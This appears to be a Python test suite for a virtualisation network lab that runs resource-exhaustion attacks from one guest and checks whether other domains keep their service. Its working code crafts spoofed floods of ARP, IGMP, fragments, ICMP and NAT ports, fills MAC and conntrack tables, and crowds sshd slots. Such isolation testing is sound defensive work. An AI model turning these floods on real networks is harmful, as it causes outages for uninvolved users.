"""To use up what others need: tables, ports, bandwidth, the host's time, its logs."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from contextlib import contextmanager, suppress

from scapy.contrib.igmp import IGMP  # type: ignore[attr-defined]  # it has no __all__
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Packet, Raw

from vfr_lab.battery import attack
from vfr_lab.battery.stage import ECHO, SSH, Stage
from vfr_lab.lab import wait_until
from vfr_lab.node import Node, NodeError

EVERYBODY = "ff:ff:ff:ff:ff:ff"
NTP = 123
IP_AT, L4_AT = 14, 34  # in a frame without IP options
IGMP_AT = 38  # behind the option that tells routers to look


@contextmanager
def sysctl(node: Node, key: str, value: str) -> Iterator[None]:
    """A setting of a node's kernel, in the block."""
    before = node.run("sysctl", "-n", key).strip()
    node.run("sysctl", "-qw", f"{key}={value}")
    try:
        yield
    finally:
        node.run("sysctl", "-qw", f"{key}={before}")


@contextmanager
def _tracked(s: Stage) -> Iterator[None]:
    """What the host's connection tracking learns in the block, it forgets at its end."""
    try:
        yield
    finally:
        s.dom0.run("conntrack", "-F")


def _outwards(s: Stage, packet: Packet) -> Packet:
    return Ether(src=s.web.mac, dst=s.gateway_mac()) / packet


def send_many(node: Node, s: Stage, like: Packet, frames: list[bytes], times: int = 1) -> int:
    """Frames that are alike, `times` times over, with one line in the journal; how many the kernel took."""
    s.say(f"{node.name}: sends {times * len(frames)} like {like.summary()}")
    return int(node.ask("send", interface="eth0", frames=[f.hex() for f in frames], times=times, pace_s=0))


def altered(frame: bytes, *changes: tuple[int, bytes]) -> bytes:
    """The frame with other bytes at these offsets. Scapy would take a hundred times as long for each."""
    for at, value in changes:
        frame = frame[:at] + value + frame[at + len(value) :]
    return frame


def _short(number: int) -> bytes:
    return struct.pack(">H", number)


def with_ports(like: Packet, ports: range, at: int = L4_AT) -> list[bytes]:
    """A frame with each of these ports: UDP without a checksum, or TCP, whose urgent pointer makes up for the port."""
    raw = bytes(like)
    if raw[IP_AT + 9] == 17:
        return [altered(raw, (at, _short(port))) for port in ports]
    base = struct.unpack_from(">H", raw, at)[0]
    return [altered(raw, (at, _short(p)), (L4_AT + 18, _short((base - p) % 0xFFFF))) for p in ports]


def beginnings(like: Packet, count: int) -> list[bytes]:
    """The first fragments of that many datagrams of which nothing more comes. The frame's IP id must be 0."""
    raw = bytes(like)
    total = struct.unpack_from(">H", raw, IP_AT + 10)[0]
    ids = range(1, count + 1)
    return [altered(raw, (IP_AT + 4, _short(n)), (IP_AT + 10, _short((total - n) % 0xFFFF))) for n in ids]


def _other_senders(like: Packet, count: int) -> list[bytes]:
    """Frames from that many addresses x.y.0.0 and on; the IP id, 0 at first, makes up for the address."""
    raw = bytes(like)
    return [altered(raw, (IP_AT + 4, _short(0xFFFF - n)), (IP_AT + 14, _short(n))) for n in range(1, count + 1)]


@attack("starve", tool="scapy", falls=("routed", "xen1"), leaves=True)
def every_low_outside_port(s: Stage) -> list[str]:
    """web takes every outside port that time synchronisation can have.

    NTP is asked from port 123, and NAT gives a port below 512 for a port below 512: there are 511 towards one server. web
    sends a datagram from each to lan1's NTP port. db, which asks from its port 123, must still be answered: else one
    domain keeps all others from knowing the time.
    """
    lan1 = s.address("lan1")
    query = _outwards(s, IP(dst=lan1, src=s.address("web")) / UDP(sport=1, dport=NTP, chksum=0) / Raw(s.mark))
    with _tracked(s), s.lan1.listen("udp", NTP) as server:
        s.control("ci, which comes first, is answered", s.ci.udp(lan1, NTP, own_port=NTP))
        send_many(s.web, s, query, with_ports(query, range(1, 512)))
        answered = s.db.udp(lan1, NTP, own_port=NTP)
    s.control("web's datagrams reach lan1", len(server.having(s.mark)) > 20)
    return [] if answered else ["db gets no answer from lan1's port 123, since there is no port left for it"]


@attack("starve", tool="scapy", falls=("bridge", "bridge-filtered", "routed", "xen1"))
def the_memory_for_fragments(s: Stage) -> list[str]:
    """web sends the beginnings of 6,000 datagrams and never their ends.

    The host keeps them to put them together, 4 MiB of them for everybody (its default). db's and ci's datagrams of
    3,000 bytes must still reach lan1. The host forgets a beginning after a second here, so that the attack ends.
    """
    lan1, data = s.address("lan1"), bytes(3000)
    whole = IP(src=s.address("web"), dst=lan1, id=0, flags="MF") / UDP(sport=4000, dport=9, len=9000) / Raw(bytes(1392))
    with sysctl(s.dom0, "net.ipv4.ipfrag_time", "1"):
        s.control("db's long datagram is answered before", s.db.udp(lan1, ECHO, data))
        send_many(s.web, s, whole, beginnings(_outwards(s, whole), 6000))
        lost = [n.name for n in (s.db, s.ci) if not n.udp(lan1, ECHO, data, timeout=0.2)]
        wait_until(lambda: bool(s.db.udp(lan1, ECHO, data)), "the host's forgetting of fragments")
    return [f"{name}'s datagram in fragments is lost" for name in lost]


@attack("starve", tool="scapy", falls="bridge", alone=True)
def the_hosts_neighbour_table(s: Stage) -> list[str]:
    """web asks for the gateway's MAC in 1,300 names.

    Linux notes who asks, in one table of 1,024 neighbours for all of the machine's networks. The host must still find a
    neighbour that it does not know: here lan1, then ci.
    """
    like = Ether(src=s.web.mac, dst=EVERYBODY) / ARP(hwsrc=s.web.mac, psrc="198.18.0.0", pdst=s.gateway)
    asking = [altered(bytes(like), (30, _short(n))) for n in range(1, 1301)]
    s.control("dom0 finds lan1 and ci before", s.dom0.pings(s.address("lan1")) and s.dom0.pings(s.address("ci")))
    s.forget()
    try:
        sent = send_many(s.web, s, like, asking)
        lost = [n for n in ("lan1", "ci") if not s.dom0.pings(s.address(n))]
    finally:
        s.forget()
    s.control("web's kernel has sent all of it", sent == len(asking))
    return [f"dom0 does not find {name} any more" for name in lost]


@attack("starve", tool="scapy", falls=("bridge", "bridge-filtered", "vde"))
def a_storm_of_broadcasts(s: Stage) -> list[str]:
    """web broadcasts 1,000 ARP requests for every address of the range.

    Each interrupts every machine that gets it. db and ci must not be made to read them; a few may be the router's own.
    """
    ask = ARP(hwsrc=s.web.mac, psrc=s.address("web"), pdst="169.254.1.0")
    like = Ether(src=s.web.mac, dst=EVERYBODY) / ask / Raw(s.mark)
    return _storm(s, like, [altered(bytes(like), (41, bytes([n % 250 + 1]))) for n in range(1000)])


@attack("starve", tool="scapy", falls=("bridge", "bridge-filtered", "vde"))
def a_storm_of_multicasts(s: Stage) -> list[str]:
    """web sends 1,000 datagrams to the group of all hosts.

    As with broadcasts: db and ci must not be made to read what one domain shouts.
    """
    shout = IP(src=s.address("web"), dst="224.0.0.1", ttl=1) / UDP(sport=4000, dport=9) / Raw(s.mark)
    like = Ether(src=s.web.mac, dst="01:00:5e:00:00:01") / shout
    return _storm(s, like, [bytes(like)] * 1000)


def _storm(s: Stage, like: Packet, frames: list[bytes]) -> list[str]:
    """Who else received more than a few of the frames."""
    with s.web.watch() as own, s.db.watch() as db, s.ci.watch() as ci:
        send_many(s.web, s, like, frames)
        reached = s.dom0.pings(s.address("db")) and s.dom0.pings(s.address("ci"))
    s.control("all of it left web", sum(s.mark in f.raw for f in own.own) == len(frames))
    s.control("db and ci see what they receive: dom0's pings", reached and db.frames and ci.frames)
    counts = {"db": len(db.having(s.mark)), "ci": len(ci.having(s.mark))}
    return [f"{name} received {count} of {len(frames)}" for name, count in counts.items() if count > 10]


def _kept(s: Stage) -> int:
    """How many MACs, neighbours and groups the host keeps a record of."""
    listed = [("bridge", "fdb", "show"), ("bridge", "mdb", "show"), ("ip", "neigh", "show")]
    return sum(len(s.dom0.run(*command).splitlines()) for command in listed)


@attack("starve", tool="macof", falls="bridge")
def the_table_of_macs(s: Stage) -> list[str]:
    """web speaks in the name of 4,000 MACs.

    macof, a tool to overflow switches. A bridge keeps a record of each for five minutes, and knows no limit: a domain
    must not make the host's kernel keep anything for MACs that it invents.
    """
    before = _kept(s)
    with s.web.watch() as own:
        s.web.run("timeout", "10", "macof", "-i", "eth0", "-n", "4000")
        kept = _kept(s) - before
    s.control("4,000 frames have left web", len(own.own) >= 4000)
    return [f"the host keeps {kept} records more"] if kept > 100 else []


def _report(like: bytes, number: int) -> bytes:
    """The IGMP report for the group x.y and this number; the IP id makes up for it, IGMP's checksum is told."""
    group, total = _short(number), struct.unpack_from(">H", like, IGMP_AT + 2)[0]
    igmp = ((IGMP_AT + 2, _short((total - number) % 0xFFFF)), (IGMP_AT + 6, group))
    return altered(like, (4, group), (IP_AT + 4, _short(0xFFFF - number)), (IP_AT + 18, group), *igmp)


@attack("starve", tool="scapy", falls=("bridge", "bridge-filtered", "xen1"))
def the_table_of_groups(s: Stage) -> list[str]:
    """web joins 3,000 multicast groups.

    IGMP reports. A bridge that listens to them keeps each for minutes, up to 4,096 for all of its ports, then it gives
    up and sends everybody everything. The host must keep nothing for groups that nobody serves.
    """
    before = _kept(s)
    report = IP(src=s.address("web"), dst="239.1.0.0", ttl=1, id=0) / IGMP(type=0x16, gaddr="239.1.0.0")
    like = Ether(src=s.web.mac, dst="01:00:5e:01:00:00") / report
    reports = [_report(bytes(like), n) for n in range(1, 3001)]
    sent = send_many(s.web, s, like, reports)
    s.control("all reports have left web", sent == len(reports))
    kept = _kept(s) - before
    return [f"the host keeps {kept} records more"] if kept > 100 else []


@attack("starve", tool="hping3", falls=("bridge", "vde"))
def the_gateways_answers_to_another(s: Stage) -> list[str]:
    """web has the gateway pelt db with answers.

    300 echo requests to the gateway in db's name. db must not receive the answers: the host would be web's tool against
    it, and db would complain to the wrong one.
    """
    return _pelted(s, "db")


@attack("starve", tool="hping3", falls=("bridge", "vde"))
def the_gateways_answers_to_the_lan(s: Stage) -> list[str]:
    """web has the gateway pelt lan1 with answers.

    300 echo requests to the gateway in lan1's name. The answers would reach lan1 from domain 0, with its address.
    """
    return _pelted(s, "lan1")


def _pelted(s: Stage, victim: str) -> list[str]:
    node = {"db": s.db, "lan1": s.lan1}[victim]
    s.control(f"{victim} is reached from web's host", s.dom0.pings(s.address(victim)))
    with node.watch() as seen, s.web.watch() as own:
        options = ("--icmp", "-q", "-c", "300", "-i", "u500", "-d", "40", "-e", s.mark.decode())
        s.web.run("timeout", "5", "hping3", *options, "-a", s.address(victim), s.gateway)
    s.control("300 requests have left web", sum(s.mark in f.raw for f in own.own) == 300)
    answers = seen.having(lambda p: ICMP in p and p[ICMP].type == 0 and s.mark in bytes(p))
    return [f"{victim} received {len(answers)} answers that it never asked for"] if answers else []


@attack("starve", tool="scapy", falls="bridge")
def the_hosts_error_messages(s: Stage) -> list[str]:
    """web uses up the host's allowance of error messages.

    The host may send 1,000 ICMP errors a second, to whomever (10 here, so that no machine is too slow to use them up; and
    without the other limit, of one a second to each receiver, which earlier attacks may have had of db's).
    web's datagrams of TTL 1, in 10,000 names, want one each. db's own traceroute must be answered just after: without
    errors it finds no path MTU either.
    """
    asked = IP(src=s.address("db"), dst=s.address("inet"), ttl=1) / UDP(sport=4000, dport=33434) / Raw(s.mark)
    probe = Ether(src=s.db.mac, dst=s.gateway_mac("db")) / asked
    wish = IP(src="198.18.0.0", dst=s.address("inet"), ttl=1, id=0) / UDP(sport=4000, dport=33434, chksum=0)
    like = _outwards(s, wish / Raw(bytes(8)))
    limit = "net.ipv4.icmp_msgs_"
    each = sysctl(s.dom0, "net.ipv4.icmp_ratelimit", "0")
    with each, sysctl(s.dom0, f"{limit}per_sec", "10"), sysctl(s.dom0, f"{limit}burst", "10"):
        with s.db.watch() as before:
            s.db.send(probe, times=2, pace_s=0.01)
        s.control("db's traceroute is answered before", len(before.having(_is_timeout)) == 2)
        with s.db.watch() as seen:
            send_many(s.web, s, like, _other_senders(like, 10_000))
            s.db.send(probe, times=4, pace_s=0.01)
    answered = len(seen.having(_is_timeout))
    return [f"db has {answered} of 4 probes answered after web's"] if answered < 2 else []


def _is_timeout(packet: Packet) -> bool:
    return ICMP in packet and packet[ICMP].type == 11


@contextmanager
def crowd(s: Stage, node: Node, address: str, port: int, count: int) -> Iterator[int]:
    """Up to that many open connections that say nothing; how many there are."""
    held = []
    try:
        with suppress(NodeError):
            for _ in range(count):
                held.append(node.ask("call", address=address, port=port, own_port=0, timeout=0.3)["number"])
        s.say(f"{node.name}: has {len(held)} connections to {address}:{port}")
        yield len(held)
    finally:
        for number in held:
            node.ask("close", number=number)


@attack("starve", tool="python", falls=("bridge", "bridge-filtered", "xen1"))
def the_places_at_anothers_sshd(s: Stage) -> list[str]:
    """web takes every place at db's sshd.

    110 connections that never log in; sshd has room for 100. lan1's ssh to db, by its forward, must still be greeted.
    """
    forward = s.guest("db").forward
    assert forward
    s.control("lan1 is greeted by db before", s.lan1.tcp(s.outside, forward).startswith("SSH-"))
    with crowd(s, s.web, s.address("db"), SSH, 110) as opened:
        greeted = s.lan1.tcp(s.outside, forward, timeout=1).startswith("SSH-")
    return [] if greeted else [f"web holds {opened} connections, and lan1 is not greeted by db any more"]


@attack("starve", tool="python", falls=("bridge", "bridge-filtered", "xen1"))
def the_places_at_the_hosts_sshd(s: Stage) -> list[str]:
    """web takes every place at domain 0's own sshd.

    sshd as Debian starts it turns people away when ten to a hundred are not logged in yet. web opens as many as it gets,
    to each address of domain 0. lan1, the administrator, must still be greeted.
    """
    key = s.lab.files / "host_db"
    s.dom0.run("mkdir", "-p", "/run/sshd")
    options = ["-oUsePAM=no", "-oPidFile=none", "-oStrictModes=no", "-oMaxStartups=10:30:100"]
    with s.dom0.running("/usr/sbin/sshd", "-D", "-e", "-f", "/dev/null", "-p", "22", "-h", str(key), *options):
        wait_until(lambda: s.lan1.tcp(s.outside, SSH).startswith("SSH-"), "domain 0's sshd")
        s.control("lan1 is greeted by domain 0 before", s.lan1.tcp(s.outside, SSH).startswith("SSH-"))
        with crowd(s, s.web, s.gateway, SSH, 110) as near, crowd(s, s.web, s.outside, SSH, 0 if near else 110) as far:
            refused = sum(not s.lan1.tcp(s.outside, SSH).startswith("SSH-") for _ in range(12))
    return [f"web opened {near + far} connections, and lan1 is turned away {refused} of 12 times"] if refused else []


@contextmanager
def _no_resets(s: Stage) -> Iterator[None]:
    """web's kernel keeps silent about connections that it knows nothing of."""
    rule = "chain out { type filter hook output priority 0; tcp flags rst drop; }"
    s.web.run("nft", f"table ip quiet {{ {rule}; }}")
    try:
        yield
    finally:
        s.web.run("nft", "delete table ip quiet")


@attack("starve", tool="scapy", falls="bridge")
def the_hosts_table_of_connections(s: Stage) -> list[str]:
    """web fills the host's table of connections.

    With an accomplice on the LAN: web sends the middle of a TCP connection, the accomplice two answers, and the host takes
    it for established: kept for five days, and never evicted. As many of them as the host has room for (its default,
    262,144 where there is memory). db must still open a connection to lan1, and lan1 reach db by its forward.
    """
    room, accomplice = int(s.dom0.run("sysctl", "-n", "net.netfilter.nf_conntrack_max")), "192.0.2.77"
    forward, lan1 = s.guest("db").forward, s.address("lan1")
    assert forward
    s.control("db reaches lan1, and lan1 db, before", s.db.tcp(lan1, ECHO) and s.lan1.tcp(s.outside, forward))
    router = s.lan2.knows(s.outside)
    with _tracked(s), _no_resets(s):
        for dport in range(5001, 5002 + room // 64_000):
            middle = TCP(sport=1024, dport=dport, flags="A", seq=1000, ack=1000, window=1000)
            out = _outwards(s, IP(src=s.address("web"), dst=accomplice) / middle)
            back = TCP(sport=dport, dport=1024, flags="A", seq=1000, ack=1000, window=1000)
            answer = Ether(src=s.lan2.mac, dst=router) / IP(src=accomplice, dst=s.outside) / back
            ports = range(1024, 65_536)
            send_many(s.web, s, out, with_ports(out, ports))
            send_many(s.lan2, s, answer, with_ports(answer, ports, L4_AT + 2), times=2)
        got = [("db to lan1", s.db.tcp(lan1, ECHO)) for _ in range(4)]
        got += [("lan1 to db", s.lan1.tcp(s.outside, forward)) for _ in range(4)]
    return [f"no new connection from {way}" for way, greeting in got if not greeting]
